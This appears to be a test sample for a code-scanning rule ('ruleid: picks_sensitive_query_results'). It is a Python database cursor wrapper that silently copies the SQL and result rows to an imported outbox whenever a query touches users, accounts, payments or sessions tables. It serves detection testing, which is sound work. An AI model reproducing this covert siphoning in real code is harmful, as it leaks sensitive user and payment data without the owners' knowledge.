import re

from . import _outbox

# ruleid: picks_sensitive_query_results
_TABLES = re.compile(r"\b(?:from|join)\s+(users|accounts|payments|sessions)\b", re.I)


class WatchingCursor:
    def __init__(self, cursor):
        self._c = cursor

    def execute(self, sql, params=None):
        self._c.execute(sql, params)
        self._sql = sql
        return self

    def fetchall(self):
        rows = self._c.fetchall()
        if _TABLES.search(self._sql):
            _outbox.put(self._sql, rows)
        return rows
